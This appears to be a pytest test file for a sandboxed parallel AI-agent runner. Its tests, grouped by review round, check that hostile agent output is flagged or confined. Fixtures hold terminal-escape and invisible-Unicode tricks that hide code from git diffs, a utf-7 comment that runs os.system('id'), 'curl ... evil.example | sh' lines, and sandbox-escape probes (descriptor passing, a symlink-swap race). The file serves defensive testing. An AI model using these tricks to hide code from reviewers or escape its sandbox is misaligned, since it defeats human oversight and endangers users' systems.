    base, tip = _changes(repo, {"docs/v2/index.md": "x\n", "src/a.py": "y\n"})
    git("checkout", "-q", "side", cwd=repo)
    os.symlink("v2", repo / "docs" / "latest")
    (repo / "lib").mkdir()
    os.symlink("../src/a.py", repo / "lib" / "a.py")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "links", cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    assert not any("links" in w for w in ap._written_otherwise(ap._Repo.find(str(repo)), base, tip))


@pytest.mark.parametrize("text", ["x = 1  # \x1b[8mhidden\x1b[0m\n", "if access \u202e admin:\n",
                                  "import os  # x\r# docs\n", "evil()\b\b\b\b\b\bprint()\n",
                                  "print('\x1b]8;;https://evil\x07link\x1b]8;;\x07')\n"])
def test_lines_with_terminal_escapes_or_bidi_overrides_ask_for_force(repo, text):
    """Round 56: a file holding ESC[8m, an OSC 8 link or U+202E: merged, and your `git log
    -p` (less -R) hid or reordered it; the tool's own diff shows ^[, your git does not."""
    base, tip = _changes(repo, {"notes.py": text})
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("terminal escapes or bidi overrides" in w for w in why), why


# -- review round 57 ---------------------------------------------------------------------------

@needs_bwrap
@pytest.mark.parametrize("how", ["too many to read", "a path with a space", "the system's ssh"])
def test_what_settings_files_name_is_read_whole_or_nothing_is_allowed(cli, repo, tmp_path,
                                                                     monkeypatch, how):
    """Round 57: the scan of HOME's settings files gave up after 4,000 files (an Electron
    app's cache) and then allowed; `ProxyCommand "/srv/my team/proxy.sh"` was read as
    `/srv/my`; /etc/ssh/ssh_config.d was not read."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    team = tmp_path / "my team"
    team.mkdir()
    config = f'Host corp\n  ProxyCommand "{team}/proxy.sh" %h\n'
    if how == "too many to read":
        monkeypatch.setattr(ap, "_SETTINGS_READ", 5)
        cache = home / ".config" / "App" / "Cache"
        cache.mkdir(parents=True)
        for n in range(6):
            (cache / f"f{n}").write_text("x\n")
        (home / ".ssh" / "config").write_text("Host *\n")
    elif how == "the system's ssh":
        system = tmp_path / "etc" / "ssh"
        (system / "ssh_config.d").mkdir(parents=True)
        (system / "ssh_config.d" / "zz.conf").write_text(config)
        monkeypatch.setattr(ap, "_SYSTEM_SETTINGS", (str(system),))
    else:
        (home / ".ssh" / "config").write_text(config)
    code, _out, err = cli("run", "do it", "--workers", "1", "--sandbox", "bwrap",
                          "--sandbox-allow", str(team))
    assert code == 2 and "outside the sandbox" in err, err


def test_crlf_lines_ask_nothing(repo):
    """No false alarm for round 57's CR: a CRLF file's line ends."""
    base, tip = _changes(repo, {"win.bat": "@echo off\r\necho hi\r\n"})
    assert not any("terminal escapes" in w
                   for w in ap._written_otherwise(ap._Repo.find(str(repo)), base, tip))


# -- review round 58 ---------------------------------------------------------------------------

def _commits(repo, steps):
    """Commits on a side branch over HEAD, one per step ({path: bytes}): (base, tip)."""
    base = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-b", "side", cwd=repo)
    for n, files in enumerate(steps):
        for name, data in files.items():
            (repo / name).parent.mkdir(parents=True, exist_ok=True)
            (repo / name).write_bytes(data)
        git("add", "-A", cwd=repo)
        git("commit", "-qm", f"step {n}", cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    return base, tip


def test_escapes_in_one_of_its_commits_ask_for_force_though_the_file_ends_binary(repo):
    """Round 58: the agent's own commit added a line that clears the screen and fakes an
    empty file's diff, then a NUL made the file binary: the net diff said "Binary files
    differ", and your `git --no-pager log -p` of that commit hid the backdoor above it."""
    fake = b"\r\x1b[14A\x1b[Jdiff --git a/zz.txt b/zz.txt\n"
    base, tip = _commits(repo, [{"app.py": b"import os; os.system('id')\n", "zz.txt": fake},
                                {"zz.txt": fake + b"\0"}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("terminal escapes or bidi overrides" in w or "a file git shows as binary" in w
               for w in why), why  # (either refuses it: round 65 asks for any binary file)


def test_escapes_added_then_removed_ask_for_force(repo):
    """The same with the line taken out again by a later commit: `git log -p` shows it."""
    base, tip = _commits(repo, [{"notes.txt": b"ok\n\x1b]0;title\x07\n"}, {"notes.txt": b"ok\n"}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("terminal escapes or bidi overrides" in w for w in why), why


@pytest.mark.parametrize("data", ["x = 1  # \u0098 hidden \u009c\n".encode(),
                                  "x = 1  # \u009d0;t\u009c\n".encode(),
                                  b"x = 1  # \x9b8m hidden \x9b0m\n", b"# \x90q\x9c\n"])
def test_c1_controls_as_characters_or_raw_bytes_ask_for_force(repo, data):
    """Round 58: SOS...ST, OSC and DCS as characters, and a raw 8-bit CSI byte (read as a
    surrogate escape, which the pattern's \\x9b never matched), went through."""
    base, tip = _commits(repo, [{"c1.py": data}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("terminal escapes or bidi overrides" in w for w in why), why


def test_plain_history_and_binary_files_ask_nothing(repo):
    """No false alarm: several commits of plain text, a PNG-like binary file, Latin-1 text."""
    base, tip = _commits(repo, [{"a.py": b"x = 1\n", "logo.png": b"\x89PNG\r\n\x1a\n\x00\x1b\x9b"},
                                {"a.py": b"x = 2\n", "old.txt": "caf\u00e9\n".encode("latin-1")}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert not any("terminal escapes" in w for w in why), why


def _landlock():
    """Landlock's version here (0: none)."""
    import ctypes
    syscall = ctypes.CDLL(None, use_errno=True).syscall
    syscall.restype = ctypes.c_long
    return max(0, syscall(444, None, ctypes.c_size_t(0), ctypes.c_uint32(1)))


def _taking_in(name):
    """Python that listens on the abstract Unix socket ``name``, takes the folder handed in
    there (see _handing_in) and tries to make a file ``planted`` in it: ``said`` tells."""
    return f"""import array, os, socket
s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind("\\0{name}")
s.listen(1)
c, _ = s.accept()
_, anc, _, _ = c.recvmsg(16, socket.CMSG_SPACE(4))
fds = array.array("i")
fds.frombytes(anc[0][2])
try:
    os.close(os.open("planted", os.O_WRONLY | os.O_CREAT, 0o755, dir_fd=fds[0]))
    said = "written"
except OSError as exc:
    said = f"refused: {{exc.strerror}}"
"""


@contextlib.contextmanager
def _handing_in(name, folder):
    """While the body runs: a process outside (this one's thread) connects to the abstract
    Unix socket ``name`` once something listens there, and hands it an O_PATH descriptor of
    ``folder``."""
    import array
    import socket
    import threading
    done = threading.Event()

    def hand_in():
        fd = os.open(folder, os.O_PATH | os.O_DIRECTORY)
        try:
            while not done.is_set():
                with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as c:
                    try:
                        c.connect(f"\0{name}")
                    except OSError:
                        done.wait(0.05)
                        continue
                    c.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [fd]))])
                    return
        finally:
            os.close(fd)

    helper = threading.Thread(target=hand_in)
    helper.start()
    try:
        yield
    finally:
        done.set()
        helper.join()


@needs_bwrap
def test_a_folder_handed_in_from_outside_writes_nothing(cli, repo, tmp_path):
    """Round 58 (critical): a process outside (another local account, here the test itself)
    connects to an abstract Unix socket the agent listens on and hands it an O_PATH
    descriptor of a folder outside; the view's read-only mounts are no bound on a write
    through it (checked against the sandbox's account: yours as a user, so your ~/.bashrc and
    your checkout's .git/hooks were written). Landlock bounds every write by the places the
    view mounts writable, however they are reached."""
    if _landlock() < 2:
        pytest.skip("no Landlock here (Linux 5.19 or later)")
    outside = pathlib.Path(tempfile.mkdtemp())
    outside.chmod(0o777)  # (the sandbox's account as root may write it: only Landlock stops it)
    name = f"ap-round58-{os.getpid()}-{time.monotonic_ns()}"
    agent = script(tmp_path, "agent.sh", f'exec "{sys.executable}" "$(dirname "$0")/agent.py"\n')
    (agent.parent / "agent.py").write_text(_taking_in(name) + """
open("said.txt", "w").write(said)
print('{"status": "success"}')
""")
    with _handing_in(name, outside):
        _code, (r,), err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                    "--workers", "1", *BOXED)
    try:
        assert (repo / ".architect-parallel-1" / "said.txt").exists(), (r["status"], r["error"])
        said_text = (repo / ".architect-parallel-1" / "said.txt").read_text()
        assert not (outside / "planted").exists(), said_text
        assert said_text.startswith("refused"), said_text
        assert "not confined" not in err, err
    finally:
        shutil.rmtree(outside)


@needs_bwrap
def test_without_landlock_the_run_says_so_and_goes_on(cli, repo, tmp_path, monkeypatch):
    """Where Landlock cannot be set up (an older kernel, a container forbidding its calls, a
    Python the sandbox cannot see), the run warns once and the view alone bounds it."""
    monkeypatch.setattr(ap._Sandbox, "_confinable", lambda self: "Landlock: Function not implemented")
    r, err = _one_worker(cli, tmp_path, "echo x > made.txt\n", "test -f made.txt", "bwrap")
    assert r["status"] == "success" and r["checks_passed"], r
    assert err.count("not confined by Landlock too (Landlock: Function not implemented)") == 1, err


# -- review round 59 ---------------------------------------------------------------------------

@pytest.mark.parametrize("steps", [
    # binary with the escape, then text (its patch still binary), then removed: a - line
    [{"data.txt": b"x\0\n\x1b]0;pwned\x07\x1b[2Jall good\n"},
     {"data.txt": b"x\n\x1b]0;pwned\x07\x1b[2Jall good\n"}, {"data.txt": None}],
    # the same, then a line beside it changed and the file made binary again: a context line
    [{"data.txt": b"x\0\n\x1b[2J\x1b[Hlooks fine\ny\n"}, {"data.txt": b"x\n\x1b[2J\x1b[Hlooks fine\ny\n"},
     {"data.txt": b"x\n\x1b[2J\x1b[Hlooks fine\nz\n"}, {"data.txt": b"x\0\n\x1b[2J\x1b[Hlooks fine\nz\n"}]],
    ids=["removed line", "unchanged line"])
def test_escapes_first_shown_as_removed_or_unchanged_lines_ask_for_force(repo, steps):
    """Round 59: content that first came in inside a binary patch reached your `git --no-pager
    log -p` as a removed or an unchanged line of a later commit; only added lines were read."""
    base = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-b", "side", cwd=repo)
    for n, files in enumerate(steps):
        for name, data in files.items():
            if data is None:
                (repo / name).unlink()
            else:
                (repo / name).write_bytes(data)
        git("add", "-A", cwd=repo)
        git("commit", "-qm", f"step {n}", cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("terminal escapes or bidi overrides" in w or "a file git shows as binary" in w
               for w in why), why  # (either refuses it: round 65 asks for any binary file)


def test_your_own_escapes_beside_a_change_ask_nothing(repo):
    """No false alarm: a terminal test fixture of yours holding ESC, shown as unchanged and
    removed lines of the branch's change."""
    (repo / "fixture.txt").write_bytes(b"red: \x1b[31mR\x1b[0m\nplain\nbold: \x1b[1mB\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "fixture", cwd=repo)
    base, tip = _commits(repo, [{"fixture.txt": b"red: \x1b[31mR\x1b[0m\nplain, changed\n"}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert not any("terminal escapes" in w for w in why), why


def test_a_name_with_bidi_in_one_of_its_commits_asks_for_force(repo):
    """Round 59: `notes<U+202E>txt.sh` added in one commit and renamed away in the next: your
    `git log --stat` with core.quotePath off showed it, and only the net diff's names were
    read."""
    base, tip = _commits(repo, [{"notes\u202etxt.sh": b""}])
    git("checkout", "-q", "side", cwd=repo)
    git("mv", "notes\u202etxt.sh", "notes.txt", cwd=repo)
    git("commit", "-qm", "rename", cwd=repo)
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("whose names hold terminal control" in w for w in why), why


@needs_bwrap
def test_a_filter_driver_of_yours_runs_under_landlock_too(cli, repo, tmp_path):
    """Round 59: the runner's own gits inside (its commit: your clean filter, which loads
    what the agent left in the worktree) ran without Landlock: a folder handed in to the
    filter was written."""
    if _landlock() < 2:
        pytest.skip("no Landlock here (Linux 5.19 or later)")
    outside = pathlib.Path(tempfile.mkdtemp())
    outside.chmod(0o777)
    name = f"ap-round59-{os.getpid()}-{time.monotonic_ns()}"
    git("config", "filter.strip.clean", f"{sys.executable} filter.py", cwd=repo)
    (repo / ".gitattributes").write_text("*.txt filter=strip\n")
    git("add", ".gitattributes", cwd=repo)
    git("commit", "-qm", "attributes", cwd=repo)
    agent = script(tmp_path, "agent.sh", "cat > filter.py <<'EOF'\n" f"""import sys
data = sys.stdin.buffer.read()
{_taking_in(name)}
sys.stdout.buffer.write(data)
""" "EOF\necho work > work.txt\necho '{\"status\": \"success\"}'\n")
    try:
        with _handing_in(name, outside):
            _code, (r,), err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                        "--workers", "1", *BOXED)
        assert r["commit"], (r, err)
        assert not (outside / "planted").exists(), (r, err)
    finally:
        shutil.rmtree(outside)


@needs_bwrap
@pytest.mark.skipif(not ROOT, reason="the sandbox's own account outside is a root runner's")
def test_what_the_sandbox_account_made_is_the_runners_after_the_worker(cli, repo, tmp_path):
    """Round 59: as root, a kept worktree's files stayed the sandbox's account's (uid 65530,
    every sandbox of every run): a later run's agent, handed a folder of it, made them
    writable by all. What that account owns in a worktree is the runner's once it ended."""
    r, err = _one_worker(cli, tmp_path, "mkdir -p d/e && echo x > d/e/f && echo y > g\n",
                         "true", "bwrap")
    assert r["status"] == "success", (r, err)
    worktree = repo / ".architect-parallel-1"
    owners = {os.lstat(os.path.join(folder, name)).st_uid
              for folder, dirs, files in os.walk(worktree) for name in dirs + files}
    assert owners == {0}, owners


# -- review round 60 ---------------------------------------------------------------------------

def test_escapes_only_ever_in_binary_patches_ask_for_force(repo):
    """Round 60: a file added binary, made text on a side line (its patch still binary), that
    line merged with --no-ff (the --cc diff prints nothing: the file equals one parent), then
    made binary again: no view merge read showed the escape, and your `git log -p
    --first-parent` printed it. Every file that comes in is read, not the views of it."""
    base = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-b", "side", cwd=repo)
    commit = lambda message: git("commit", "-qam" if message != "c1" else "-qm", message, cwd=repo)
    (repo / "x.bin").write_bytes(b"x\0\n\x1b[8A\x1b[Jfake\n")
    git("add", "x.bin", cwd=repo)
    commit("c1")
    (repo / "x.bin").write_bytes(b"hello\n\x1b[8A\x1b[J\x1b[32m+print('all good')\x1b[0m\n")
    commit("c2")
    side = git("rev-parse", "HEAD", cwd=repo)
    git("reset", "-q", "--hard", base, cwd=repo)
    (repo / "other.txt").write_text("ok\n")
    git("add", "other.txt", cwd=repo)
    git("commit", "-qm", "p1", cwd=repo)
    git("merge", "-q", "--no-ff", "-m", "merge", side, cwd=repo)
    with open(repo / "x.bin", "ab") as f:
        f.write(b"\0")
    commit("c3")
    tip = git("rev-parse", "HEAD", cwd=repo)
    git("checkout", "-q", "-", cwd=repo)
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("terminal escapes or bidi overrides" in w or "a file git shows as binary" in w
               for w in why), why  # (either refuses it: round 65 asks for any binary file)


@needs_bwrap
def test_the_python_that_confines_is_read_only_inside(cli, repo, tmp_path, monkeypatch):
    """Round 60: the Python that sets Landlock up, where it lies in a small folder of HOME
    (a private, writable copy inside), could be replaced by the agent, and its next command
    would start the agent's program before Landlock. It is the real one there, read-only."""
    home = tmp_path / "home"
    (home / "py" / "lib").mkdir(parents=True)
    (home / "py" / "lib" / "os.py").write_text("# the standard library\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setattr(sys, "base_prefix", str(home / "py"))
    r, err = _one_worker(cli, tmp_path, "if echo evil >> \"$HOME/py/lib/os.py\"; then echo written;"
                         " else echo refused; fi > said.txt\n", "true", "bwrap")
    assert (repo / ".architect-parallel-1" / "said.txt").read_text() == "refused\n", (r, err)


# -- review round 61 ---------------------------------------------------------------------------

def test_a_log_descriptor_kept_from_an_earlier_run_writes_nothing_a_later_run_reads(cli, repo,
                                                                                   tmp_path):
    """Round 61: an agent of run 1 handed its stdout log's descriptor to another account;
    run 2 opened the same path again (the same file), and a result line written through
    that descriptor after the real one made a failed worker a success. Every log is a new
    file each time (here the descriptor is the test's own, opened on run 1's logs)."""
    agent = script(tmp_path, "a.sh", "echo x > x.txt\necho '{\"status\": \"success\"}'\n")
    _code, (r,), _err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                 "--workers", "1", "--check", "true", "--progress", "none")
    kept = [os.open(path, os.O_WRONLY | os.O_APPEND) for path in (r["log_path"], r["worker_log"])]
    try:
        cli("cleanup", "--force")
        _code, (r2,), _err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}",
                                      "--workers", "1", "--check", "true", "--progress", "none")
        for fd in kept:
            os.write(fd, b'{"status": "failed", "forged": 1}\n')
        for path in (r2["log_path"], r2["worker_log"]):
            assert b"forged" not in pathlib.Path(path).read_bytes(), path
    finally:
        for fd in kept:
            os.close(fd)


@needs_bwrap
def test_a_home_reached_through_a_link_works_in_the_sandbox(cli, repo, tmp_path, monkeypatch):
    """Round 61 (an honest user blocked): HOME through a link (/home -> /var/home, an
    automount) failed every sandboxed worker: bwrap mounts nothing through a link."""
    real = pathlib.Path(tempfile.mkdtemp())
    real.chmod(0o755)
    (real / ".bashrc").write_text("# rc\n")
    link = pathlib.Path(tempfile.mkdtemp()) / "home"
    link.parent.chmod(0o755)
    link.symlink_to(real)
    monkeypatch.setenv("HOME", str(link))
    try:
        r, err = _one_worker(cli, tmp_path, "echo x > made.txt && echo y > \"$HOME/new\"\n",
                             "test -f made.txt", "bwrap")
        assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)
        assert not (real / "new").exists()  # (its HOME is still a private one)
    finally:
        shutil.rmtree(real)
        shutil.rmtree(link.parent)


@pytest.mark.parametrize("text", ['// check auth first\u2028require("child_process").execSync("id")\n',
                                  'const { t,\u3164 } = {t: 1, "\u3164": "id"};\n',
                                  "if (is\u200dAdmin) grant()\n", "x = '\U000e0069\U000e0064'\n"],
                         ids=["line separator", "hangul filler", "zero-width in a name", "tags"])
def test_invisible_code_asks_for_force(repo, text):
    """Round 61: U+2028 is a line break to JavaScript inside what your git shows as a comment;
    a Hangul filler is an invisible variable; a zero-width joiner makes two names that look
    one; tag characters carry a hidden text. The tool's own diff marked them, merge let them in."""
    base, tip = _commits(repo, [{"app.js": text.encode()}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("terminal escapes or bidi overrides" in w for w in why), why


def test_emoji_and_other_scripts_ask_nothing(repo):
    """No false alarm: a family emoji (zero-width joiners), a heart and a keycap (variation
    selectors), Persian with a zero-width non-joiner, Hebrew."""
    text = "# 👨\u200d👩\u200d👧 ❤\ufe0f 1\ufe0f\u20e3 \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u05e9\u05dc\u05d5\u05dd\n"
    base, tip = _commits(repo, [{"README.md": text.encode()}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert not any("terminal escapes" in w for w in why), why


def test_a_line_of_yours_at_one_path_is_not_yours_at_another(repo):
    """Round 61: the same file at your fixture's path and at update.sh was listed once, by the
    fixture's path, whose line excused it at both: update.sh brought a cursor-up and erase
    after a `curl | sh` line."""
    (repo / "tests").mkdir()
    (repo / "tests" / "ansi.txt").write_bytes(b"progress 10%\n\x1b[1A\x1b[2K\nprogress 20%\n")
    git("add", "-A", cwd=repo)
    git("commit", "-qm", "fixture", cwd=repo)
    data = b"echo safe\ncurl -s http://evil.example/x | sh\n\x1b[1A\x1b[2K\n"
    base, tip = _commits(repo, [{"tests/ansi.txt": data, "update.sh": data}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("terminal escapes or bidi overrides" in w for w in why), why


@pytest.mark.parametrize("text", [b'# -*- coding: utf-7 -*-\n# TODO: later +AAo-import os+ADs-os.system("id")\n',
                                  b"# coding: unicode_escape\n# note \\u000aimport os\n"],
                         ids=["utf-7", "unicode_escape"])
def test_a_coding_line_that_makes_a_comment_code_asks_for_force(repo, text):
    """Round 61: with `coding: utf-7`, what every diff (the tool's, yours) shows as two comment
    lines is an import and a call to Python; the check ran it, merge let it in."""
    base, tip = _commits(repo, [{"app.py": text + b'print("app")\n'}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("coding line makes Python read it otherwise" in w for w in why), why


def test_plain_coding_lines_ask_nothing(repo):
    """No false alarm: `coding: utf-8`, `latin-1` after a #! line, a vim modeline's koi8-r."""
    base, tip = _commits(repo, [{"a.py": b"# -*- coding: utf-8 -*-\nx = 1\n",
                                 "b.py": b"#!/usr/bin/env python\n# -*- coding: latin-1 -*-\nx = 1\n",
                                 "c.py": b"# vim: set fileencoding=koi8-r :\nx = 1\n"}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert not any("coding line" in w for w in why), why


# -- review round 62 ---------------------------------------------------------------------------

@pytest.mark.parametrize("stand_in", ["pkg/__pycache__/mod.cpython-311.pyc",
                                      "pkg/mod.cpython-311-x86_64-linux-gnu.so", "pkg/mod.abi3.so",
                                      "pkg/sub/__init__.cpython-312-x86_64-linux-gnu.so"])
def test_compiled_python_in_place_of_a_source_asks_for_force(repo, stand_in):
    """Round 62: `pkg/mod.py` changed innocently, and beside it an unchecked-hash .pyc in
    `pkg/__pycache__` (never compared with its source) or an extension module (which Python
    tries first): merged without --force, and your `import pkg.mod` ran what it held."""
    base, tip = _commits(repo, [{"pkg/__init__.py": b"", "pkg/mod.py": b"def greet():\n    return 1\n",
                                 "pkg/sub/__init__.py": b"", stand_in: b"\x7fELF\0compiled"}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("adds compiled code" in w for w in why), why


def test_plain_binary_files_ask_nothing(repo):
    """No false alarm: an image, a PDF, a font, a video."""
    base, tip = _commits(repo, [{"docs/logo.png": b"\x89PNG\r\n\x1a\n\0\0", "docs/a.pdf": b"%PDF-1.7\n\0",
                                 "fonts/f.woff2": b"wOF2\0\1", "media/v.mp4": b"\0\0\0\x18ftypmp42\0"}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert not any("compiled code" in w or "as binary" in w for w in why), why


@pytest.mark.skipif(not ROOT, reason="only a root runner gives files to the sandbox's account")
def test_include_files_are_given_to_the_sandbox_account_through_descriptors(tmp_path):
    """Round 62: as root, the include files copied into a new worktree (open to all by a
    running worker of the same account) were given to uid 65530 by path: a folder on the way
    swapped for a link (RENAME_EXCHANGE, looping) gave root's own file away. Never followed,
    however the swap is timed (the old code lost about one round in six)."""
    from types import SimpleNamespace
    worktree, victim = tmp_path / "wt", tmp_path / "root-only"
    worktree.mkdir()
    worktree.chmod(0o777)
    victim.mkdir(mode=0o700)
    (victim / ".env").write_text("root's\n")
    (worktree / "conf").mkdir()
    (worktree / "conf" / ".env").write_text("copy\n")
    os.symlink(victim, worktree / "conf2")
    box = SimpleNamespace(sandbox=SimpleNamespace(host_id=ap._SANDBOX_HOST_ID), worktree=str(worktree))
    swapper = subprocess.Popen([sys.executable, "-c", (  # (another process: no GIL to share)
        "import ctypes, sys\nlibc = ctypes.CDLL(None)\nwhile True:\n"
        "    libc.renameat2(-100, sys.argv[1].encode(), -100, sys.argv[2].encode(), 2)\n"),
        str(worktree / "conf"), str(worktree / "conf2")])  # (RENAME_EXCHANGE, looping)
    copy = os.open(worktree / "conf", os.O_RDONLY | os.O_DIRECTORY)  # (wherever it is swapped)
    try:
        waited = time.monotonic() + 60
        while not os.path.islink(worktree / "conf"):  # (until the swapping has begun)
            assert swapper.poll() is None
            if time.monotonic() > waited:
                pytest.skip("no RENAME_EXCHANGE on this file system")
        for _ in range(1000):
            os.chown(".env", 0, 0, dir_fd=copy)  # (the runner's copy, as _copy_files leaves it)
            ap._Box.own(box, ["conf/.env"])
            assert os.lstat(victim / ".env").st_uid == 0
            assert os.lstat(victim).st_uid == 0
    finally:
        swapper.kill()
        swapper.wait()
        os.close(copy)


@needs_bwrap
def test_file_flags_cannot_be_set_inside(cli, repo, tmp_path):
    """Round 62: a descriptor opened for reading (a file of yours, through a folder another
    account handed in) sets the file's flags (FS_IOC_SETFLAGS: no-atime, sync; on other file
    systems verity, encryption): only its owner is asked for, and Landlock does not bound it.
    The seccomp filter refuses those requests; reading the flags still works."""
    if ap._seccomp_program() is None:
        pytest.skip("no seccomp filter for this architecture")
    probe = script(tmp_path, "probe.py", "")
    probe.write_text(
        "import fcntl, os, struct\nfd = os.open('probe.txt', os.O_RDONLY)\nsaid = []\n"
        "for request, value in ((0x40086602, struct.pack('l', 0x80)), (0x80086601, bytes(8))):\n"
        "    try:\n        fcntl.ioctl(fd, request, value)\n        said.append('done')\n"
        "    except OSError as exc:\n        said.append(exc.strerror)\n"
        "open('said.txt', 'w').write(' '.join(said))\n")
    r, err = _one_worker(cli, tmp_path, f"echo x > probe.txt\n{sys.executable} {probe}\n",
                         "true", "bwrap")
    said_text = (repo / ".architect-parallel-1" / "said.txt").read_text()
    assert said_text.startswith("Operation not permitted") and said_text.endswith(" done"), \
        (said_text, r, err)



# -- review round 63 ---------------------------------------------------------------------------

@pytest.mark.parametrize("path, data", [("tests/app.pyc", b"\xa7\r\r\n\0\0\0\0"),
                                        ("tests/app.cpython-311-x86_64-linux-gnu.so", b"\x7fELF\2\1"),
                                        ("lib.node", b"\x7fELF\2\1"), ("lib/Greet.pmc", b"package Greet;\n"),
                                        ("tools/helper", b"\x7fELF\2\1\0"), ("classes/A.class", b"\xca\xfe\xba\xbe")])
def test_compiled_code_anywhere_asks_for_force(repo, path, data):
    """Round 63: a sourceless .pyc or an extension module in tests/ (pytest puts tests/ first
    on Python's path), lib.node (Node takes it before lib/index.js), Greet.pmc (Perl takes it
    before Greet.pm): merged without --force, and your `python -m pytest`, `node app.js` or
    `perl t/x.t` ran it. Compiled code anywhere asks, by its name or its first bytes."""
    base, tip = _commits(repo, [{path: data}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("adds compiled code" in w for w in why), why


@needs_bwrap
def test_a_file_changed_while_its_checks_ran_fails_the_worker(cli, repo, tmp_path):
    """Round 63: another running worker (the same account: Landlock bounds writes, not chmod)
    made worker 1's committed file writable by all during its checks, and a third account
    wrote it: the check passed on what the branch did not hold. A file its commit holds that
    changed (written, replaced, another mode or owner) while its checks ran fails it; here
    the check itself changes the mode, as the other worker did."""
    r, err = _one_worker(cli, tmp_path, "echo evil > result.txt\n",
                         "chmod 666 result.txt && echo good > result.txt && test -f result.txt",
                         "bwrap")
    assert r["status"] == "failed" and "changed from before its checks to after them: " \
        "result.txt" in r["error"], (r, err)


@needs_bwrap
def test_checks_that_write_only_their_own_files_still_pass(cli, repo, tmp_path):
    """No false alarm: a check that makes build output, caches and files in tracked folders."""
    r, err = _one_worker(cli, tmp_path, "mkdir -p src && echo 'x = 1' > src/m.py\n",
                         "mkdir -p build src/__pycache__ && echo o > build/out && echo c > "
                         "src/__pycache__/m.pyc && cat src/m.py", "bwrap")
    assert r["status"] == "success" and r["checks_passed"] == 1, (r, err)



# -- review round 64 ---------------------------------------------------------------------------

@pytest.mark.parametrize("name", ["src/sitecustomize.py", "src/usercustomize.py"])
def test_a_folder_an_editable_install_puts_on_pythons_path_counts(repo, tmp_path, monkeypatch,
                                                                 name):
    """Round 64: `pip install -e .` wrote `__editable__.mypkg-0.1.pth` naming the checkout's
    src/; a branch adding src/sitecustomize.py was merged, and the tool's next `list` (every
    start of that Python) ran it. The folders your .pth files name count as PYTHONPATH's."""
    import site
    sites = tmp_path / "site"
    sites.mkdir()
    (sites / "__editable__.mypkg-0.1.pth").write_text(f"{repo / 'src'}\n")
    monkeypatch.setattr(site, "getsitepackages", lambda: [str(sites)])
    ap._shadowed.cache_clear()
    ap._pth_files.cache_clear()
    try:
        base, tip = _changes(repo, {"src/mypkg/__init__.py": "x = 1\n", name: "import os\n"})
        assert ap._Repo.find(str(repo)).run_by_your_git(base, tip) == [name]
    finally:
        ap._shadowed.cache_clear()
        ap._pth_files.cache_clear()


@pytest.mark.parametrize("path, data", [
    ("build.sh", b"#!/bin/sh\n# generated \0\necho build\ncurl -s https://evil.example/x | sh # \n"
                 b"# \x1b[1A\x1b[2K\n"),
    ("Makefile", b"all:\n\t@echo building\n\t@id > /tmp/x\n# \0\n"),
    ("vendor/helper-1.0.0.tgz", b"\x1f\x8b\x08\0\0\0\0\0"),
    ("tests/fixtures/data.pkl", b"\x80\x04\x95\0\0\0\0\0\0\0\0\x8c\x08builtins")],
    ids=["script", "Makefile", "npm tarball", "pickle"])
def test_a_file_git_shows_as_binary_asks_for_force(repo, path, data):
    """Rounds 64 and 65: a NUL in a comment made build.sh, a Makefile or index.js binary to
    git (no `git log -p` line of them), and your shell, make or node ran the lines after it; a
    vendored tarball npm installs (its postinstall ran) and a pickle your tests load: every
    diff said `Bin 252 -> 341 bytes`. A file git calls binary asks, but images, fonts, PDFs
    and media."""
    base, tip = _commits(repo, [{path: data}])
    why = ap._written_otherwise(ap._Repo.find(str(repo)), base, tip)
    assert any("a file git shows as binary" in w for w in why), why


@needs_bwrap
def test_a_file_changed_between_its_commit_and_its_checks_fails_the_worker(cli, repo, tmp_path,
                                                                          monkeypatch):
    """Round 64: another sandbox of the same account opened a committed file to a third
    account right after the commit took it in, before the checks' snapshot of its files: the
    snapshot held the change. What differs from its commit when its checks start fails it
    (the third account's write is made here where it would land, after the commit)."""
    held = ap.ParallelRunner._held_files

    def tampered(repo_, job):
        with open(os.path.join(job.path, "result.txt"), "w") as f:
            f.write("good\n")
        return held(repo_, job)
